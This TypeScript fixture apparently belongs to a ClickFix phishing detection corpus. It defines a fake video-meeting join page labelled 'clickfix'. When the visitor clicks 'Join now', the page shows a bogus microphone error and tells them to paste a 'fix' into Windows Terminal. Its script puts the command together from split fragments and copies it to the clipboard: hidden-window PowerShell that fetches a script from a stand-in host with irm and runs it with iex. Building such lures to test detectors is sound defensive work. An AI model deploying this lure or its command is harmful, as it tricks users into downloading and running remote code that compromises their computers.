import type { Entry } from '../entry.js';
import { builderBadge, builderHead, doc, htmlRoute, jsRoute } from '../parts/y-kit.js';

// ClickFix on a builder page posing as a video-meeting join screen.

const meetHost = 'meet-join-room-ux4.kestrel.site';

export const entries: Entry[] = [
  {
    id: 'y-cf-meet-mic-fix',
    label: 'clickfix',
    kind: 'clickfix',
    url: `https://${meetHost}/qpk-xwnb-tzd`,
    routes: {
      [`${meetHost}/qpk-xwnb-tzd`]: htmlRoute(doc({
        title: 'Meet - qpk-xwnb-tzd',
        head: builderHead('ks_5b0d19ee'),
        css: `body{margin:0;background:#202124;color:#e8eaed;font-family:"Google Sans",Roboto,Arial,sans-serif}
.top{padding:16px 24px;font-size:20px}
.main{display:flex;gap:40px;justify-content:center;align-items:center;margin-top:8vh}
.vid{width:560px;height:315px;background:#3c4043;border-radius:8px;display:flex;align-items:center;justify-content:center;font-size:15px;color:#9aa0a6;position:relative}
.side{width:300px;text-align:center}.side h2{font-weight:400}
.j{background:#8ab4f8;color:#202124;border:0;padding:12px 28px;border-radius:24px;font-size:15px;cursor:pointer}
.err{display:none;position:fixed;top:22%;left:50%;transform:translateX(-50%);width:480px;background:#fff;color:#202124;border-radius:8px;padding:24px;box-shadow:0 8px 30px rgba(0,0,0,.6)}
.err ol{line-height:1.9}.err button{background:#1a73e8;color:#fff;border:0;padding:10px 22px;border-radius:4px}`,
        body: `<div class="top">&#127909; Meet</div>
<div class="main"><div class="vid"><span>Camera is starting…</span></div>
<div class="side"><h2>Ready to join?</h2><p style="color:#9aa0a6">3 others are in this call</p><button class="j" id="join">Join now</button></div></div>
<div class="err" id="err"><h3 style="margin-top:0;color:#d93025">&#9888; Microphone access problem</h3>
<p>Your browser has blocked access to the microphone and camera. This is a known issue with Windows audio drivers (error 0x8007001F). To fix it:</p>
<ol><li>Click <b>Copy fix</b> below</li><li>Press <b>Windows + X</b> and choose <b>Terminal</b></li><li>Paste with <b>Ctrl + V</b>, press <b>Enter</b></li><li>Return here and click <b>Join now</b></li></ol>
<button id="fix">Copy fix</button> <span id="okm" style="display:none;color:#188038">Copied!</span></div>
${builderBadge}
<script src="/_ks/assets/meet.js"></script>`,
      })),
      [`${meetHost}/_ks/assets/meet.js`]: jsRoute(`(function(){
var c=['po','wer','shell',' -w',' 1 ','-c ','"$r=','irm ','https://','audio-driver-fix','.net/w/','win.txt',';iex $r"'].join('');
document.getElementById('join').onclick=function(){document.getElementById('err').style.display='block';};
document.getElementById('fix').onclick=function(){navigator.clipboard.writeText(c+' # Audio driver reset ('+Date.now()+')');document.getElementById('okm').style.display='inline';};
setTimeout(function(){document.getElementById('err').style.display='block';},3000);
})();`),
    },
  },
];
